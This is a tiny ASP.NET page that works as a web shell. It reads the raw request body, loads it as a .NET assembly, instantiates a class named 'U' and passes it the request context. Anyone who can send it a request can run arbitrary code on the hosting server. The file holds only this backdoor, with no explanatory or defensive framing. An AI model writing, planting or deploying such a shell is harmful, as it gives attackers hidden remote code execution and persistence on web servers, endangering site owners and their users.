<%@ Page Language="C#" %>
<% byte[] b = Request.BinaryRead(Request.TotalBytes); System.Reflection.Assembly.Load(b).CreateInstance("U").Equals(Context); %>
